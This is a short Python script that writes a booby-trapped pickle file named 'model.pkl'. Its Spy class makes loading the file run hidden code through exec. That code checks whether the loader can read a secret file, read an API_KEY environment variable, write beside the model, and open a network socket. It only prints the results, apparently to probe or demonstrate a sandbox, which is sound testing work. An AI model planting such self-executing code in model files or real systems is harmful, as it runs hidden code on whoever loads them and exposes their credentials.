import pickle
from pathlib import Path

SECRET = Path("secret.txt")
LOOK = """
import os, socket

def reach(what, act):
    try:
        act()
    except (KeyError, OSError):
        print(f"{what}: no")
    else:
        print(f"{what}: yes")

def connect():
    with socket.socket(type=socket.SOCK_DGRAM) as line:
        line.connect(("192.0.2.1", 9))  # finds a way there, and sends nothing

reach("read my secret", lambda: open(SECRET))
reach("read my settings", lambda: os.environ["API_KEY"])
reach("write beside the model", lambda: open("/box/new", "w"))
reach("use the network", connect)
"""


class Spy:
    """Pickles as a call of exec."""

    def __reduce__(self) -> tuple:
        """Return what loading calls: it looks what the file can reach."""
        return exec, (f"SECRET = {str(SECRET.resolve())!r}\n{LOOK}",)


SECRET.write_text("a made-up secret")
Path("box").mkdir(exist_ok=True)
Path("box/model.pkl").write_bytes(pickle.dumps(Spy()))
print("made:", *(path.as_posix() for path in Path("box").iterdir()))
